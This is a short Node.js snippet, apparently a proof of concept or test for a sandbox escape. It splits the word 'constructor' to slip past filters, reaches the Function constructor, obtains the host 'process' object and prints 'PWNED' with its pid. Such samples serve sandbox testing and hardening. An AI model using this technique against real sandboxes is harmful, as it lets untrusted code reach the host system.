const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const e = new (require('events'))();
e.on('x', (o) => { console.log('PWNED', o.go(fn)('return process')().pid);
});
e.emit('x', t);
